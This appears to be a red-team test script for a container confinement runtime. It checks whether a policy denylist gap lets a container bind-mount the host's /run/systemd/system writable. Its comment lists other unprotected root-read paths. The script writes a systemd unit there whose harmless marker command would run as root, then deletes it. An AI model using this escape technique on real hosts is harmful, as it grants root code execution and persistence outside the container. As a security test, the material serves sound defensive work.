#!/bin/sh
# found-3 (policy gap, denylist): mounts.sensitive lists /run/systemd/private
# but not /run/systemd/system (runtime unit directory, read by systemd as root;
# /run/systemd/transient, /etc is covered but /run is not), nor /var/lib/dpkg
# (maintainer scripts run as root), /var/lib/systemd, /home, /run/snapd.socket,
# /var/run/libvirt. A writable bind of /run/systemd/system is allowed, and the
# container drops a unit file there (root code on the next daemon-reload/boot).
# Exit 0: allowed and the unit file landed on the host; 1: refused.
set -u
SRC=${ROOT:?}; BUILD=${BUILD:?}
W=$(mktemp -d /tmp/confine-redteam3.XXXXXX)
made=
[ -d /run/systemd/system ] || { mkdir -p /run/systemd/system && made=1; }
trap 'rm -rf "$W"; [ -z "$made" ] || rmdir /run/systemd/system' EXIT
mkdir -p $W/cache; chmod 700 $W/cache
python3 - "$SRC" "$W" <<'PY'
import json,sys,os
src,w=sys.argv[1:]
p=json.load(open(src+'/config/policy.json'))
p.update(securityfs=w+'/nosfs', hook_path=os.environ['BUILD']+'/confine-hook', cache_dir=w+'/cache', decision_log=w+'/decisions.log')
p['seccomp']['default_profile']=src+'/profiles/seccomp/default.json'
p['apparmor']['when_unavailable']='skip'
json.dump(p,open(w+'/policy.json','w'))
PY
chmod 600 $W/policy.json
B=$W/bundle; mkdir -p $B/rootfs/bin; cp /bin/busybox $B/rootfs/bin/; ln -s busybox $B/rootfs/bin/sh
(cd $B && runc spec)
U=confine-f3-$$.service
python3 - "$B" "$U" <<'PY'
import json,sys,os
b,u=sys.argv[1:]
c=json.load(open(b+'/config.json'))
c['process']['terminal']=False
c['mounts'].append({'destination':'/u','type':'bind','source':'/run/systemd/system','options':['rbind','rw']})
c['process']['args']=['sh','-c','printf "[Service]\\nExecStart=/bin/touch /root/pwned\\n" > /u/'+u]
json.dump(c,open(b+'/config.json','w'))
PY
CONFINE_POLICY=$W/policy.json $BUILD/confine-runtime --root $W/runc run -b $B f3-$$; rc=$?
if [ $rc -eq 0 ] && [ -s /run/systemd/system/$U ]; then
  echo "ATTACK WORKED: wrote /run/systemd/system/$U on the host"; rm -f /run/systemd/system/$U; exit 0; fi
echo "gate refused or attack failed (rc=$rc)"; exit 1
